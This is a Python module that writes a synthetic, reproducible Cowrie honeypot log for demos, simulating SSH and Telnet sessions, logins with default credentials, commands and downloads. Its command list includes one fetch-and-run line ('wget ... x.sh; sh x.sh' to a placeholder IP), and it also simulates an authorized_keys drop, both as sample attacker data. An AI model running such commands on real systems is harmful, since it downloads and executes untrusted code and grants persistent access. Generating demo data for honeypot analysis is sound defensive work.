"""A deterministic, realistic demo Cowrie log written by the project itself.

Several sensors, SSH and Telnet, failed and successful logins, commands,
downloads (with and without URL), an IPv6 attacker, and the duration forms of
different Cowrie versions (float, string, duration_ms).
"""

from __future__ import annotations

import json
import random
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

SENSORS = ("sensor-eu-1", "sensor-us-1", "sensor-ap-1")
START = datetime(2026, 11, 20, tzinfo=UTC)
USERNAMES = ("root", "admin", "ubuntu", "pi", "test", "oracle", "")
PASSWORDS = ("123456", "password", "admin", "root", "raspberry", "qwerty", "")
COMMANDS = (
    "uname -a",
    "cat /proc/cpuinfo",
    "cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh",
    "echo 'ok'",
    "free -m",
    "ls -la",
)
IPS = ("203.0.113.10", "203.0.113.11", "198.51.100.23", "192.0.2.77", "2001:db8::bad:1")


class _Session:
    """One session's events as they are written, each at a number of seconds after its start."""

    def __init__(self, rng: random.Random, sensor: str, at: datetime) -> None:
        self.at = at
        self.common = {
            "session": uuid.UUID(int=rng.getrandbits(128)).hex[:12],
            "src_ip": rng.choice(IPS),
            "sensor": sensor,
            "message": "",
        }
        self.events: list[dict[str, Any]] = []

    def add(self, eventid: str, seconds: float, **fields: Any) -> None:
        ts = self.at + timedelta(seconds=seconds)
        self.events.append(
            {
                "eventid": eventid,
                "timestamp": ts.strftime("%Y-%m-%dT%H:%M:%S.%fZ"),
                **self.common,
                **fields,
            }
        )


def _session_events(rng: random.Random, sensor: str, at: datetime) -> list[dict[str, Any]]:
    session = _Session(rng, sensor, at)
    protocol = "telnet" if rng.random() < 0.2 else "ssh"
    session.add(
        "cowrie.session.connect",
        0,
        src_port=rng.randint(1024, 65535),
        dst_ip="10.0.0.5",
        dst_port=23 if protocol == "telnet" else 22,
        protocol=protocol,
    )
    if protocol == "ssh":
        session.add("cowrie.client.version", 0.2, version="SSH-2.0-Go")
    t, logged_in = _logins(rng, session, 1.0)
    if logged_in:
        t = _shell(rng, session, t)
    _close(rng, session, t)
    return session.events


def _logins(rng: random.Random, session: _Session, t: float) -> tuple[float, bool]:
    """Up to four attempts, until one succeeds; (the time after them, logged in)."""
    logged_in = False
    for _ in range(rng.randint(0, 4)):
        username, password = rng.choice(USERNAMES), rng.choice(PASSWORDS)
        logged_in = rng.random() < 0.3
        eventid = "cowrie.login.success" if logged_in else "cowrie.login.failed"
        session.add(eventid, t, username=username, password=password)
        t += rng.uniform(0.5, 3)
        if logged_in:
            break
    return t, logged_in


def _shell(rng: random.Random, session: _Session, t: float) -> float:
    """Commands and their downloads after a login; the time after them."""
    for _ in range(rng.randint(0, 4)):
        command = rng.choice(COMMANDS)
        session.add("cowrie.command.input", t, input=command)
        t += rng.uniform(0.2, 5)
        if "wget" in command:
            session.add(
                "cowrie.session.file_download",
                t,
                url="http://198.51.100.7/x.sh",
                shasum="a" * 64,
                outfile="var/lib/cowrie/downloads/" + "a" * 64,
            )
    if rng.random() < 0.2:
        session.add(
            "cowrie.session.file_download",
            t,
            shasum="b" * 64,
            destfile="/root/.ssh/authorized_keys",
        )
    return t


def _close(rng: random.Random, session: _Session, t: float) -> None:
    """The close, its duration in one of the forms of different Cowrie versions."""
    duration = round(t + rng.uniform(0, 2), 1)
    form = rng.choice(("float", "string", "ms"))
    closing: dict[str, Any] = {"duration": duration}
    if form == "string":
        closing = {"duration": str(duration)}
    elif form == "ms":
        closing = {"duration_ms": int(duration * 1000)}
    session.add("cowrie.session.closed", duration, **closing)


def generate(
    seed: int = 7, sessions: int = 240, start: datetime = START, every_s: int = 720
) -> list[dict[str, Any]]:
    """``sessions`` sessions from ``start``, one every ``every_s`` seconds (plus up to 600)."""
    rng = random.Random(seed)  # noqa: S311 - reproducible demo data, not security
    events: list[dict[str, Any]] = []
    for index in range(sessions):
        at = start + timedelta(seconds=index * every_s + rng.randint(0, 600))
        events.extend(_session_events(rng, SENSORS[index % len(SENSORS)], at))
    events.sort(key=lambda e: (e["timestamp"], e["session"]))
    return events


def write_sample(path: Path, seed: int = 7, **spread: Any) -> int:
    """Write the demo log to ``path``; returns the number of events.

    ``spread`` (``sessions``, ``start``, ``every_s``) spreads other sessions over other days.
    """
    events = generate(seed, **spread)
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8") as out:
        for event in events:
            out.write(json.dumps(event, separators=(",", ":")) + "\n")
    return len(events)
